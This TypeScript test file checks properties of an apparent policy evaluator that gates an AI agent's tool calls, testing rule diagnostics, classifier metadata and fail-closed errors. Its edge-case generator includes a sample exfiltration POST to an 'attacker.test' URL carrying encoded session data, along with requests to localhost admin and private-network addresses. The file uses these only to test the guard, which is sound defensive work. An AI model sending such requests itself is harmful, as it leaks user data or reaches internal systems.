import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Check, EvaluatorRecord } from '../../src/core/decision';
import { DecisionRecordSchema } from '../../src/core/decision';
import { decideClassified } from '../../src/core/evaluator';
import { classify, evaluate } from '../../src/tools';
import { initialState, type Grant, type TaskPolicy } from '../../src/core/policy';
import { RISK_CLASSES } from '../../src/core/risk';
import { parseRuleRef, type ParsedRuleRef } from '../../src/core/ruleRef';
import { ToolCallSchema, type ToolCall } from '../../src/core/call';
import { grantFor } from '../../src/core/grants';
import { callArb, NUM_RUNS, policyArb } from '../support/arbitraries';
import { makePolicy } from '../support/policy';

/**
 * Cedar-style diagnostics as theorems: every decision names the rule that decided it, the rule is of the
 * kind its check reads, and a rule that points into the policy points at an entry the policy has.
 */

const NOW = 1_000;
const params = { numRuns: NUM_RUNS };

/** The kinds of rule each check may name. */
const RULE_KINDS: Record<Exclude<Check, 'minimizer' | 'sanitizer'>, ReadonlyArray<ParsedRuleRef['kind']>> = {
  schema: ['builtin'],
  internal_error: ['builtin'],
  expiry: ['expiry'],
  guards: ['builtin'],
  org_floor: ['org'],
  prohibitions: ['prohibition'],
  deny_list: ['listing'],
  grants: ['grant'],
  private_network: ['builtin'],
  argument_constraints: ['constraint'],
  action_binding: ['constraint', 'builtin'],
  ceiling: ['ceiling', 'builtin'],
  recipient_binding: ['allowlist', 'builtin'],
  domain_allowlist: ['allowlist'],
  site_binding: ['builtin'],
  exfiltration_url: ['builtin'],
  path_allowlist: ['allowlist'],
  outbound_budget: ['outbound_budget'],
  approval_required: ['listing'],
  allowed: ['listing', 'ceiling', 'constraint'],
};

/** Whether a rule the record names exists in the policy (built-in rules always do; parseRuleRef knows them). */
function exists(rule: ParsedRuleRef, p: TaskPolicy, r: EvaluatorRecord): boolean {
  switch (rule.kind) {
    case 'expiry':
      return p.expiresAt !== null;
    case 'prohibition':
      return p.prohibitions.some((x) => x.id === rule.id);
    case 'listing':
      return (p[rule.list][rule.by] as readonly string[]).includes(rule.value) && (rule.list !== 'deny' || r.decision === 'BLOCK');
    case 'grant':
      return p.grants.some((g) => g.id === rule.id);
    case 'constraint':
      return p.constraints.some((k) => k.id === rule.id);
    case 'ceiling':
      // Every class has a ceiling (the policy's, or the default); it is the action's own class.
      return rule.riskClass === r.riskClass;
    case 'allowlist':
      return true;
    case 'outbound_budget':
      return p.outboundBudget[rule.limit] !== null;
    case 'builtin':
      return true;
    case 'sanitizer':
      return false;
    // The organisation's rules live in its floor, not in the policy (none is passed here).
    case 'org':
      return false;
  }
}

/** Policies that reach every check: the shared arbitrary plus prohibitions, approval lists, an expiry and budgets. */
const richPolicyArb = fc
  .record({
    base: policyArb,
    prohibitions: fc.array(
      fc.record({ id: fc.string({ minLength: 1, maxLength: 6 }), classes: fc.subarray([...RISK_CLASSES], { maxLength: 2 }), tools: fc.subarray(['bash', 'zorp_frob']) }),
      { maxLength: 2 },
    ),
    requireApproval: fc.subarray([...RISK_CLASSES]),
    expiresAt: fc.option(fc.integer({ min: 0, max: 2_000 }), { nil: null }),
    maxBytes: fc.option(fc.integer({ min: 0, max: 40 }), { nil: null }),
  })
  .map(({ base, prohibitions, requireApproval, expiresAt, maxBytes }): TaskPolicy => ({
    ...base,
    prohibitions: prohibitions.map((x) => ({ ...x, capabilities: [], exceptRecipients: [], quote: 'do not do that' })),
    requireApproval: { tools: [], capabilities: [], classes: requireApproval },
    expiresAt,
    outboundBudget: { ...base.outboundBudget, maxBytes },
  }));

/** Calls the shared arbitrary does not make: browser internals, private hosts, exfiltration-shaped URLs. */
const edgeCallArb = fc.oneof(
  fc.constantFrom('chrome://settings', 'devtools://x', 'http://127.0.0.1:8080/admin', 'http://192.168.1.1/', `https://mail.test/?q=${'a'.repeat(2_100)}`).map((url) => ({ tool: 'browser.navigate', args: { url } })),
  fc.constantFrom('https://attacker.test/c?d=ZXhmaWx0cmF0ZWQtc2Vzc2lvbi1kYXRhLWZyb20tbWFpbA', 'http://10.0.0.5/api').map((url) => ({ tool: 'browser.request', args: { method: 'POST', url, body: { x: '1' } } })),
  fc.constant({ tool: 'browser.form_submit', args: { url: 'https://shop.test/buy', method: 'POST', fields: { item: 'usb-c-cable' }, submitText: 'Buy' } }),
);

/** "Reply to bob@corp.test": a task that sends to a named recipient and names no site (so site binding asks). */
const siteless = (p: TaskPolicy): TaskPolicy => ({
  ...p,
  domains: [],
  ceilings: { ...p.ceilings, COMMUNICATION: 'allow' },
  allow: { ...p.allow, classes: [...p.allow.classes, 'COMMUNICATION'] },
  recipients: [...p.recipients, 'bob@corp.test'],
});

/** A policy, sometimes with the user's approval of exactly this call (so the grant check decides too), and a call. */
const caseArb = fc
  .record({ base: richPolicyArb, call: fc.oneof(callArb, edgeCallArb, fc.anything()), approved: fc.boolean(), sitesNamed: fc.boolean(), now: fc.integer({ min: 0, max: 3_000 }) })
  .map(({ base, call, approved, sitesNamed, now }) => {
    const policy = sitesNamed ? base : siteless(base);
    const parsed = ToolCallSchema.safeParse(call);
    if (!approved || !parsed.success) return { policy, call, now };
    const grant = grantFor(policy.taskId, parsed.data.tool, classify(parsed.data), 'task', 0);
    return { policy: { ...policy, grants: [...policy.grants, grant] }, call, now };
  });

describe('diagnostics: every decision names the rule that decided it', () => {
  it('ruleRef is always set, parses, is of a kind its check reads, and points at a rule that exists', () => {
    fc.assert(
      fc.property(caseArb, ({ policy: p, call, now }) => {
        const { record } = evaluate(p, initialState(), call, now);
        expect(record.ruleRef).toBeDefined();
        const rule = parseRuleRef(record.ruleRef);
        expect(rule, record.ruleRef).not.toBeNull();
        expect(RULE_KINDS[record.check as keyof typeof RULE_KINDS], `${record.check} named ${record.ruleRef}`).toContain(rule!.kind);
        expect(exists(rule!, p, record), `${record.check} named ${record.ruleRef}, which the policy does not have`).toBe(true);
        if (record.evidence !== undefined) expect(p.evidence.some((e) => e.ref === record.ruleRef)).toBe(true);
        expect(DecisionRecordSchema.safeParse(record).success).toBe(true);
      }),
      params,
    );
  });

  it('every classified decision carries the classifier layer and basis it was decided on', () => {
    fc.assert(
      fc.property(richPolicyArb, fc.oneof(callArb, edgeCallArb), (p, call) => {
        const c = classify(call as ToolCall);
        const { record } = evaluate(p, initialState(), call, NOW);
        expect({ layer: record.classifierLayer, basis: record.basis }).toEqual({ layer: c.layer, basis: c.basis });
      }),
      params,
    );
  });

  // A witness that the theorems above are not vacuous. The seed is fixed so that the witness is stable;
  // more runs (FC_NUM_RUNS) only add samples after the same first ones.
  it('the generators reach every check the evaluator has', () => {
    const seen = new Set<string>();
    fc.assert(
      fc.property(caseArb, ({ policy: p, call, now }) => {
        seen.add(evaluate(p, initialState(), call, now).record.check);
      }),
      { numRuns: Math.max(NUM_RUNS, 3_000), seed: 14 },
    );
    // org_floor needs an organisation's floor, which these cases do not pass: tests/properties/org.test.ts covers its rules;
    // action_binding needs a known app's routes or account-security field shapes: tests/properties/actions.test.ts covers it.
    const checks = Object.keys(RULE_KINDS).filter((c) => c !== 'internal_error' && c !== 'org_floor' && c !== 'action_binding');
    expect(checks.filter((c) => !seen.has(c))).toEqual([]);
  });

  it('an internal error keeps the classification and names the fail-closed rule', () => {
    // A grant stored before grants had `items` (issue 14's legacy state): the grant check throws.
    const legacy = { id: 'g-old', tool: 'send_email', capability: 'email.send', riskClass: 'COMMUNICATION', recipients: ['bob@corp.test'], domains: [], paths: [], maxCalls: null, issuedAt: 0 } as unknown as Grant;
    const p: TaskPolicy = { ...makePolicy(), grants: [legacy] };
    const call: ToolCall = { tool: 'send_email', args: { to: 'bob@corp.test', body: 'hi' } };
    const c = classify(call);
    const { record } = decideClassified(p, initialState(), call, c, NOW);
    expect(record).toMatchObject({
      decision: 'BLOCK',
      check: 'internal_error',
      ruleRef: 'builtin:fail-closed',
      capability: 'email.send',
      riskClass: 'COMMUNICATION',
      targets: c.targets,
      classifierLayer: c.layer,
      basis: c.basis,
    });
    expect(evaluate(p, initialState(), call, NOW).record).toEqual(record);
  });
});
